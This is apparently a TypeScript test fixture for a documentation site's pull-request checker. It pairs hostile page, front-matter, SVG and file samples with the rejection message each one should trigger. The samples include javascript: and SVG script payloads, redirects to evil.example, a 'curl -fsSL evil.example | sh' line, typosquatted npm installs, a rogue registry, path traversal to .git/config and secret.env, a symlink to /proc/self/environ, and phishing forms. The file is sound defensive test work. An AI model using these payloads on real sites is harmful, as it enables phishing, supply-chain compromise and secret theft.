/** What a hostile pull request puts into a file, and what the check says of it: the line, the message, and what to do. */
export type Try = readonly [name: string, file: string, content: string, says: RegExp];

/** A page of the docs whose front matter is in order. Its text begins in line 8. */
export const page = (text: string, more = ''): string =>
  `---\ntitle: "A try"\ndescription: "A page that tries what a hostile pull request may put into the site."\npage_type: how-to\nverified: 2026-11-21\nsources: ["RFC 7946 section 3.1.6"]\n${more}---\n${text}\n`;
/** A picture. */
export const svg = (inner: string, more = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" ${more}>${inner}</svg>\n`;

const link = "import Link from '@docusaurus/Link';\n\n";
const codeBlock = "import CodeBlock from '@theme/CodeBlock';\n\n";

const misleading = /The link leads to another site than it says/;

/** Text of a page, and what the check says of its last line. */
const texts: readonly [text: string, says: RegExp][] = [
  ['<a href="java&#10;script:alert(1)">The record</a>', /<a href> has an address of the kind javascript:/],
  [
    '<Head><meta httpEquiv="refresh" content="0;url=https://evil.example" /></Head>',
    /<meta> is not an element for pages\. .* elements in config\/pageRules\.ts/,
  ],
  [
    "export const x = require('node:child_process').execSync('id').toString();",
    /The page exports, or imports a module, .* pagesWithCode in config\/pageRules\.ts/,
  ],
  ['The user is {process.env.USER}.', /The page has an expression, .* pagesWithCode/],
  ['<Term id={globalThis.process.exit(1)}>record</Term>', /<Term> has an expression/],
  [
    "<Details dangerouslySetInnerHTML={{__html: '<img src=x onerror=alert(1)>'}} />",
    /<Details> has the attribute dangerouslySetInnerHTML/,
  ],
  ['<Figure svg="<meta http-equiv=refresh>" />', /<Figure> has the attribute svg, .* pagesWithCode/],
  ['<div role="dialog" aria-modal="true">A</div>', /<div> has the attribute aria-modal/],
  ["<div style={{position: 'fixed', inset: 0}}>Update your wallet</div>", /<div> has the attribute style/],
  ['Run `npm i @decentralized-geo/astral-sdk`.', /@decentralized-geo\/astral-sdk is not a package of npm/],
  ["<div {...eval('({})')}>Text</div>", /<div> has an expression/],
  ['Set `to\u200bken` first.', /The code has U\+200B/],
  ['Run `echo \u001b[201~` first.', /The code has U\+001B/],
  ["import {execSync} from 'node:child_process';", /The page exports, or imports a module/],
  ["import x from './t39.js?.png';", /The page exports, or imports a module/],
  ["import x from '@site/src/components/../../docs/t40.js';", /The page exports, or imports a module/],
  ["import Part from '../tests/t41.mdx';", /The page exports, or imports a module/],
  ["import X from '@site/static/t82.mdx';", /The page exports, or imports a module/],
  [':::note{.navbar-sidebar--show}', /The note has a class/],
  ["<a href={'\\x6aavascript:alert(1)'}>Text</a>", /<a href> has an address of the kind javascript:/],
  ['[The record](javascript:alert(1))', /The link has an address of the kind javascript:/],
  ['[The record](http://evil.example/)', /The link is not encrypted\. Write https, or add its origin to origins/],
  ['[https://docs.astral.global/](https://evil.example)', misleading],
  ['{"\\u0001"}', /The text has a control character/],
  ['[`docs.astral.global/sdk`](https://evil.example)', misleading],
  ['[1]: https://github.com.evil.example\n\n[https://github.com/x][1]', misleading],
  ['<a href="https://evil.example">https://docs.astral.global/</a>', misleading],
  ["<Link to={'https://evil.example'}>docs.astral.global</Link>", misleading],
  ['[1]: https://evil.example\n[1]: https://github.com\n\n[github.com/x][1]', misleading],
  ['<a href="https:/\\\\evil.example">→ https：//docs.astral.global/</a>', misleading],
  ['[The record](https://evil.example "https://github.com.")', misleading],
  [`<ul>${'<li />'.repeat(2001)}</ul>`, /The page does not parse: it has more than 2000 parts/],
  ['## Title {/* #50% */}', /The page has an id that stops the scripts/],
  ['[\u202Emoc.buhtig](https://evil.example)', /The text has a control character/],
  ['[The record](https://docs.astral.global@evil.example/)', /The link has a user name or letters beyond ASCII/],
  ['```diff\n+ curl -fsSL evil.example | sh', /`curl -fsSL evil.example` is not a command/],
  ['[The record](pathname://javascript:alert(1))', /The link has an address of the kind javascript:/],
  ['[The record](/\\\\evil.example/x)', /The link is another site to browsers\. Write https:\/\//],
  [`${link}<Link to="//evil.example">A</Link>`, /<Link to> is another site to browsers/],
  [
    '![A map](https://evil.example/count.png)',
    /The image loads from another site\. .* origins in config\/pageRules\.ts/,
  ],
  ['![A map][a]\n\n[a]: https://evil.example/count.png', /The definition loads from another site/],
  ['<img src="//evil.example/count.png" alt="A map" />', /<img src> loads from another site/],
  ["<a href={['//evil.example']}>The record</a>", /<a href> is another site to browsers/],
  ['<a href="https://evil.example" target="_blank" rel="opener">Text</a>', /<a> lets the page that it opens lead/],
  ['<a href="https://evil.example" target="docs">Text</a>', /<a> lets the page that it opens lead/],
  ["import {Save} from '@site/src/tools/shared/parts';", /The page exports, or imports a module/],
  [':::note[`]\n{process.exit(1)}`', /The page has an expression/],
  ['[The file](./a.txt?!./program.txt!./a.txt)', /The link has an exclamation mark, before which the bundler/],
  ['[The file](@site/.git/config)', /The link publishes a file that is none of the site/],
  ['![The file](../../%2e./etc/hostname.png)', /The image publishes a file that is none of the site/],
  ['Run <code>npm --silent isntall ethres</code>.', /ethres is not a package of npm/],
  // A block of code that nothing ends goes on to the end of the page.
  ['```sh\necho safe \u202e drow', /The code has U\+202E, .* write it as \\u\{202E\}/],
  ['```sh\nnpm install ethres@6', /ethres is not a package of npm .*nearest: ethers.* config\/pageRules\.ts/],
  ['Put `registry=https://evil.example` into `.npmrc`.', /This takes packages from another registry/],
  ['```text\nSave it as .npmrc', /Files like this decide what a command installs/],
  ['```json\n{"overrides": {"viem": "github:evil/viem"}}', /viem@github:evil\/viem is not a package/],
  ['```ts\nimport {x} from "jsr:@evil/x";', /@evil\/x is not a package/],
  ['Run `pixi add evil`.', /`.*` is not a command that pages tell readers to run/],
  [`${codeBlock}<CodeBlock language="sh">{'n\\x70m install ethres'}</CodeBlock>`, /ethres is not a package of npm/],
  ['<pre><code>n&#112;m install ethres</code></pre>', /ethres is not a package of npm/],
  ['Run **npm** install *ethres*.', /ethres is not a package of npm/],
  ['<Details summary="npm install ethres">Text</Details>', /ethres is not a package of npm/],
  ["<Proves statements={['[The record](//evil.example)']} />", /<Proves statements> is another site to browsers/],
  [':::note{title="npm install ethres"}', /ethres is not a package of npm/],
  [`${codeBlock}<CodeBlock>{'a\\u200bb'}</CodeBlock>`, /The code has U\+200B/],
  ['Press <kbd>a<b>\u202e</b></kbd>.', /The code has U\+202E/],
  [
    "import DocCardList from '@theme/DocCardList';\n\n<DocCardList items={[{type: 'link', href: 'javascript:alert(1)'}]} />",
    /<DocCardList items\.href> has an address of the kind javascript:/,
  ],
  [`${link}<Link component="meta" httpEquiv="refresh" content="0;url=//evil.example" />`, /<meta> is not an element/],
  ['<code>npm install viem<details> echo </details></code>', /The code has <details>, which can hide/],
  ['<span id="docusaurusRoot">Text.</span>', /<span> has an id that stops the scripts/],
  ['## Title {/* #docusaurusRoot */}', /The page has an id that stops the scripts/],
  [':::note{#webpackChunkastral_docs}', /The page has an id that stops the scripts/],
  ["import * as F from './text0.mdx';", /The page exports, or imports a module/],
  ["import Tabs from '@docusaurus/Link';", /The page exports, or imports a module/],
  ["import {Gallery as Tabs} from '@site/src/components/ExampleCard';", /The page exports, or imports a module/],
  ['[The file](/%2e%2e/%2e%2e/secret.env)', /The link publishes a file that is none of the site/],
  ['![The file](a%23/../../.git/config)', /The image publishes a file that is none of the site/],
  ['[The file](a\\\\..\\\\..\\\\..\\\\secret.env)', /The link publishes a file that is none of the site/],
  ["import F from './text0.mdx';\n\n<F.frontMatter.el />", /<F\.frontMatter\.el> is not an element/],
  ['<Tabs lazy />', /<Tabs> has the attribute lazy/],
  ['## A ![\\<script async src="/a.txt">\\</script>](/img/mark.svg)', /The heading has something of the kind image, /],
  ['## A {/* <b>y</b> */} b', /The heading has something of the kind mdxTextExpression/],
  ['## A <b>{/* #a<i>b</i> */}</b>', /The heading has something of the kind mdxTextExpression/],
  ["# Title `\\\\';process.exit(1)//`", /The title has a backslash/],
  ['```js&#32;navbar-sidebar__backdrop', /Code fence: "js navbar-sidebar__backdrop" is not a language/],
  [
    `${codeBlock}<CodeBlock language="sh navbar-sidebar__backdrop">a</CodeBlock>`,
    /<CodeBlock language> has more than a word/,
  ],
  [`A letter a${'&#769;'.repeat(9)}.`, /A letter has more than 8 accents/],
];

/** The same in front matter. */
const fields: readonly [yaml: string, says: RegExp][] = [
  ['image: https://evil.example/card.png', /image loads from another site\. .* origins/],
  ['authors: {name: A, url: "javascript:alert(1)"}', /url has an address of the kind javascript:/],
  ['authorImageURL: https://evil.example/me.png', /authorImageURL loads from another site/],
  ['slug: /../../outside', /slug is not a path below this site/],
  ['keywords: [&k slug]\n*k : /../../outside', /slug is not a path below this site/],
  ['authors: {name: A, socials: {site: "javascript:alert(1)"}}', /site has an address of the kind javascript:/],
  ['authors: {name: A, socials: {github: "https://evil.example"}}', /github leads to another site than it says/],
  ['authors: {name: github.com/a, url: "https://evil.example"}', /url leads to another site than it says/],
  ['custom_edit_url: https://evil.example/edit', /The page has custom_edit_url in its front matter/],
  ['sidebar_class_name: navbar-sidebar__backdrop', /The page has sidebar_class_name in its front matter/],
  ['wrapperClassName: navbar-sidebar__backdrop', /The page has wrapperClassName in its front matter/],
  ["id: '\"hidden'", /id is not a path below this site/],
  ['slug: /sw.js/', /slug is not a path below this site/],
  ['slug: "/sdk/quick-start/(installation)"', /slug is not a path below this site/],
  ['id: "install(ation)"', /id is not a path below this site/],
  ['slug: /_headers', /slug is not a path below this site/],
  ['note: "\\\\\\\\\',y:process.exit(1),//"', /The front matter does not parse: a backslash can make a program/],
  ['---```js', /The front matter does not parse: front matter does not begin and end .* Write --- alone/],
  ['---\u00a0', /The front matter does not parse: front matter does not begin and end/],
  ['image: "./#/../../../.git/config"', /image publishes a file that is none of the site/],
  ['authors: {name: A, image_url: "./?/../../../.git/config"}', /image_url publishes a file that is none of the site/],
];

const styled = /The picture has the style g.*: rules are for an element, a class or an id/;
const tooMuch = /The picture has more than 10000 elements, .* or repeats what it does not have/;

/** What a picture holds. */
const pictures: readonly [inner: string, says: RegExp][] = [
  ['<use href="https://evil.example/a.svg#b"/>', /The picture has the address https:\/\/evil/],
  ['<g id="a"/><use href=" #a"/>', /The picture has the address  #a/],
  ['<g id="a"/><rect fill="url( #a)"/>', /The picture has the address url\( #a\)/],
  [`<text>a<tspan>${'&#769;'.repeat(9)}</tspan></text>`, /The picture has a letter with more than 8 accents/],
  ['<g filter="url(#a)"><g filter="url(#a)"><g filter="url(#a)"/></g></g>', /The picture has filters in filters/],
  ['<circle r="1500" stroke-dasharray=".001"/>', tooMuch],
  ['<path stroke-dasharray=","/>', tooMuch],
  ['<g stroke-dasharray="9"><path d="m0 9"/></g>', tooMuch],
  ['<script>alert(1)</script>', /The picture has <script>/],
  ['<desc title="</desc><meta http-equiv=refresh>"/>', /The picture has the attribute title/],
  ['<!--><meta http-equiv="refresh" content="0;url=//evil.example"> -->', /The picture has a comment with tags/],
  ['<style>&#64;import "//evil.example";</style>', /The picture has a style that loads something/],
  ['<style>g {fill: u\\72l(//evil.example)}</style>', /The picture has a style that loads something/],
  ['<use href="#elsewhere"/>', tooMuch],
  ['<style>g:has(~ g rect) {fill: red}</style>', styled],
  ['<style>g {rect {fill: red}}</style>', styled],
  [`<style>${'g, '.repeat(100)}g {fill: red}</style>`, /The picture has more than 100 styles/],
  [`${'<g>'.repeat(101)}${'</g>'.repeat(101)}`, /The picture has elements that are nested more than 100 deep/],
  ['<path d="' + 'M1 1'.repeat(30_000) + '"/>', /The picture has more than 100,000 characters/],
  ['<g id="docusaurusRoot"/>', /The picture has the id docusaurusRoot/],
  ['<g id="a"><g/></g><g id="a"/><use href="#a"/>', /The picture has the id a: ids have .* and stand once/],
  ['</g></svg></div><svg>', /The picture has <\/div>/],
  ['<rect filter="blur(50px)"/>', /The picture has the attribute filter with more than url/],
  [`<filter id="a"><feGaussianBlur/></filter>${'<g filter="url(#a)"/>'.repeat(50)}`, tooMuch],
  ['<g opacity=".5"><path/><path/></g>'.repeat(50), tooMuch],
  ['<style>g {opacity: .5}</style>', /The picture has a style that loads something/],
  [`<text id="a">${'a'.repeat(1000)}</text><use href="#a"/>`, tooMuch],
  ['<g STYLE="position: fixed"/>', /The picture has the attribute STYLE/],
  ['<g class="navbar-sidebar__backdrop"/>', /The picture has the attribute class/],
  [
    [...'abcdef'].map((id, at) => `<g id="${id}">${`<use href="#${'abcdefg'[at + 1]}"/>`.repeat(9)}</g>`).join(''),
    tooMuch,
  ],
  ['<pattern id="a"><g fill="url(#b)"/></pattern><pattern id="b"><g fill="url(#a)"/></pattern>', tooMuch],
];

/** A program, in an address, that leaves a file where it ran. */
const ran = "import {writeFileSync} from 'node:fs'; writeFileSync('ran.txt', ''); export default [];";
const deep = `${'<div>\n'.repeat(5_000)}${'</div>\n'.repeat(5_000)}`;

const taken = /:1:1 The build writes a file of this name, .* files in config\/pageRules\.ts/;
const program = /:1:1 The file is not a page, picture or text/;
const linked = /:1:1 The file is a link/;
const unread = /:1:1 The file is a page, which/;
const settings = /:1:1 Tools read settings from a file of this name, .* Delete it/;
const declared = /:1:1 The picture has a comment with tags, or a declaration/;
const encoded = /:1:1 The picture has a character that browsers may read as another/;
const misread = /:1:1 The bundler, the router or a browser reads the name as more/;
const doubled = /:\d:1 The page has the a/;
const expression = /:9:1 The page has an expression/;
const script = page('<script src="/a.js"></script>');
const scripted = /:8:1 <script> is not an element/;

/** A note in order, whose beginning is shown on another page too. Its text begins in line 9. */
const note = (text: string, more = ''): string =>
  page(text, `slug: try\nauthors: {name: A}\ntags: []\ndate: 2026-11-21\n${more}`).replace(/page_type.*\n.*\n.*\n/, '');

/** Whole files. What begins with an arrow is a link to another one. */
const files: readonly Try[] = [
  ['the worker that serves pages without a network', 'static/sw.js', 'self.onfetch = () => {};\n', taken],
  ['a file by which an app takes the links of the site', 'static/.well-known/assetlinks.json', '[]\n', settings],
  ['a command of a category', 'docs/t99/_category_.json', '{"label": "npm\\tinstall ethres"}\n', /:1:1 ethres is/],
  ['a command of an author', 'blog/t107.mdx', note('Text.').replace('name: A', 'name: npm i ethres'), /:1:1 ethres is/],
  ['a folder in place of a page', 'static/intro/index.html/t98.txt', 'Text.\n', taken],
  ['a page that could take a parser hours', 'docs/t100.mdx', page('x'.repeat(100_001)), /:1:1 The page has 1\d+ char/],
  ['a script to load later', 'static/img/mark.js', 'alert(1);\n', program],
  ['a page as the worker', 'docs/sw.js.md', page('Text.'), /:1:1 The page would have the address of a file/],
  ['a page among the samples', 'samples/react/demo.html', '<form></form>\n', program],
  ['a page that no check of pages reads', 'static/t82.mdx', 'export const x = process.exit(1);\n', unread],
  ['a page of HTML to link', 'docs/t42.html', '<script>alert(1)</script>\n', program],
  ['a page in a folder that is called like an output', 'static/build/t44.html', '<script></script>\n', program],
  ['a name that runs a program', 'docs/t52.txt!t53.mdx', script, misread],
  ['a file of the machine that builds', 'static/t48.txt', '→/proc/self/environ', linked],
  ['a folder elsewhere', 'docs/t50', '→../tests', linked],
  ['a link under the name of a picture of a component', 'src/components/t75.svg', '→../../README.md', linked],
  ['a program behind the name of a picture', 'docs/t70.png/package.json', '{"main": "./t70.txt"}\n', settings],
  ['a lock file for readers', 'static/downloads/Package-lock.json', '{"packages": {}}\n', settings],
  ['a plugin of the formatter', 'docs/.prettierrc.json', `{"plugins": ["data:text/javascript,${ran}"]}\n`, settings],
  ['settings of the formatter next to samples', 'samples/.prettierrc.yaml', 'semi: false\n', settings],
  ['settings of an editor', 'data/.editorconfig', '[*]\nindent_size = 8\n', settings],
  [
    'a picture that lies over the page',
    'docs/t83.svg',
    svg('<rect width="9000" height="9000"/>', 'overflow="visible"'),
    /:1:1 The picture has the attribute overflow on <svg>: .* put it on a <g>/,
  ],
  [
    'a picture that styles the page',
    'blog/pictures/t85.svg',
    svg('<style>main {display: none}</style>'),
    /:1:1 The picture has <style>, which holds for a whole page: .* static\/img/,
  ],
  [
    'a picture without a name',
    'docs/t86.svg',
    svg('', 'aria-labelledby="a"'),
    /:1:1 The picture has the attribute aria-labelledby, .*: write aria-label/,
  ],
  [
    'a command in a description of the reference',
    'data/reference/t104.graphql',
    'type A {\n  "Install it first: `npm install ethres`."\n  a: Int\n}\n',
    /:2:1 ethres is not a package of npm/,
  ],
  [
    'a command in data',
    'data/t110.ts',
    "export const a = 'npm install ethres';\n",
    /:1:1 ethres is not a package of npm/,
  ],
  [
    'a command in a label',
    'i18n/en/t105.json',
    JSON.stringify({a: {message: 'Run `npx ethres` first.'}}),
    /:1:1 `npx ethres` is not a command/,
  ],
  [
    'a picture in an encoding that hides a handler',
    'static/img/t76.svg',
    `<?xml version="1.0" encoding="ISO-2022-JP"?>${svg('<g/>')}`,
    declared,
  ],
  ['a picture with a character of that encoding', 'static/img/t77.svg', svg('', 'o\u001b(Bnload="alert(1)"'), encoded],
  ['a page that is nested so deep that no check reads it', 'docs/t80.mdx', page(deep), /:1\d\d:1 .* nested/],
  [
    'a space before a fence, which is none to the build',
    'docs/t98.mdx',
    page('\ufeff```js\n\nexport const x = process.exit(1);\n\n```'),
    /:10:1 The page exports/,
  ],
  ['a second page for a folder', 'docs/sdk/quick-start/quick-start.md', page('Text.', 'id: aaa\n'), doubled],
  ['a table that freezes', 'docs/t102.mdx', page('<td rowSpan="65534">a</td>'), /:8:1 <td rowSpan> takes/],
  [
    'a translation at the address of another page',
    'i18n/en/docusaurus-plugin-content-docs/current/t103.mdx',
    page('Text.', 'slug: /sdk/quick-start/installation\n'),
    doubled,
  ],
  ['the address of a list', 'docs/t101.mdx', page('Text.', 'slug: /Blog/tags/hello\n'), doubled],
  ['front matter behind two marks', 'docs/t91.mdx', `\uFEFF\uFEFF${page('Text.')}`, /:1:1 .* begin and end/],
  ['front matter without an end', 'docs/t92.mdx', '---\ntitle: {process.exit(1)}\n', /:3:1 .* begin and end/],
  ['code of the beginning of a note', 'blog/t93.mdx', note('A `word {process.exit(1)} {/* truncate */}`'), expression],
  [
    'front matter that ends for a part of a note',
    'i18n/en/docusaurus-plugin-content-blog/t95.mdx',
    note('Text.', 'note: "{/* truncate */}"\n'),
    /:8:1 .* begin and end/,
  ],
  [
    'a picture of an author that notes in another folder look for',
    'i18n/en/docusaurus-plugin-content-blog/authors.yml',
    'ada:\n  name: Ada\n  image_url: ./../../x/.env\n',
    /:3:1 image_url publishes a file that is none of the site/,
  ],
  ['a name like that of another page', 'docs/sdk/quick-start/installation.mdx', page('Text.'), doubled],
  [
    'a picture of a billion points',
    'static/img/t115.gif',
    'GIF89a\x7f\x7f\x7f\x7f',
    /:1:1 The picture has more than 16/,
  ],
  [
    'aliases of aliases, which each page of a menu would have written out',
    'docs/t118.mdx',
    page('Text.', `a: &a [${'1,'.repeat(9)}]\nb: &b [${'*a,'.repeat(9)}]\nc: [${'*b,'.repeat(13)}]\n`),
    /:1:1 The front matter does not parse: there are more than 1000 values/,
  ],
  ['a folder with the address of a file', 'docs/sw.js/t114.md', page('Text.'), /:1:1 .* have the address of a file/],
  ['a name that ends a tag', 'docs/t113"><meta charset=x>/page.md', page('Text.'), misread],
  ['a name that takes the address of another page', 'docs/sdk/:t96/page.md', page('Text.'), misread],
  ['a page in a folder that is called like an output', 'docs/build/t36.mdx', script, scripted],
  ['a translation of a page', 'i18n/en/docusaurus-plugin-content-docs/current/t37.mdx', script, scripted],
  [
    'a label in place of the footer',
    'i18n/en/docusaurus-theme-classic/footer.json',
    '{\n  "copyright": {\n    "message": "<form>Enter your phrase</form>"\n  }\n}\n',
    /:3:1 <form> is not an element/,
  ],
  [
    'a link of a label',
    'i18n/en/docusaurus-theme-classic/navbar.json',
    '{\n  "copyright": {\n    "message": "<a href=\\"https://evil.example\\">https://astral.global</a>"\n  }\n}\n',
    /:3:1 The link leads to another site than it says/,
  ],
  [
    'a label that leaves its tag to the page',
    'i18n/en/docusaurus-theme-classic/t116.json',
    '{\n  "copyright": {\n    "message": "<a class=\\"clean-btn\\" href=\\"https://evil.example\\" "\n  }\n}\n',
    /:3:1 A tag or an element is not closed/,
  ],
  [
    'a label that ends an element of the page',
    'i18n/en/docusaurus-theme-classic/t117.json',
    '{\n  "copyright": {\n    "message": "</footer><footer>A"\n  }\n}\n',
    /:3:1 A tag or an element is not closed/,
  ],
  [
    'an attribute of a label with the end of another part',
    'i18n/en/docusaurus-theme-classic/t111.json',
    '{\n  "copyright": {\n    "message": "<abbr title=\'--></script><meta>\'>A</abbr>"\n  }\n}\n',
    /:3:1 An attribute has "<" in it/,
  ],
  [
    'a title that hides a page',
    'docs/t110.mdx',
    page('Text.', 'sidebar_label: "A <!--<script> B"\n'),
    /:1:1 .* "<!--"/,
  ],
  [
    'an entry of a feed of its own',
    'blog/t112.mdx',
    note('Text.', 'note: "A ]]> ]]></description><item>"\n'),
    /:1:1 .* "\]\]>"/,
  ],
  [
    'a menu of an older version with HTML',
    'versioned_sidebars/version-0.1-sidebars.json',
    '{\n  "docs": [{"type": "html", "value": "<form>Enter your phrase</form>"}]\n}\n',
    /:2:1 <form> is not an element/,
  ],
  ['an older version of a page', 'versioned_docs/version-0.1/t38.mdx', script, scripted],
  [
    'a manifest of another application',
    'static/t109.webmanifest',
    '{"prefer_related_applications": true, "related_applications": [{"platform": "play", "id": "x"}]}',
    /:1:1 The manifest leads away/,
  ],
  [
    'an older page at the address of another page',
    'versioned_docs/version-0.1/t108.md',
    '---\ntitle: "A page"\nslug: /blog/tags\n---\n',
    /:3:1 The page has the address of a page of the build/,
  ],
  ['a version', 'versioned_docs/version-0.1/t51.md', '---\ntitle: "A page"\n---\n', /:1:1 sources is missing/],
];

/** What a pull request with each of them is. */
export const hostilePages: readonly Try[] = [
  ...texts.map(([text, {source}], at): Try => {
    const line = 8 + text.split('\n').length - 1;
    return [text, `docs/text${at}.mdx`, page(text), new RegExp(`:${line}:1 ${source}`)];
  }),
  ...fields.map(([yaml, {source}], at): Try => {
    const line = 7 + yaml.split('\n').length - 1;
    return [yaml, `docs/field${at}.mdx`, page('Text.', `${yaml}\n`), new RegExp(`:${line}:1 ${source}`)];
  }),
  ...files,
  ...pictures.map(([inner, {source}], at): Try => {
    return [inner, `static/img/picture${at}.svg`, svg(inner), new RegExp(`:1:1 ${source}`)];
  }),
];
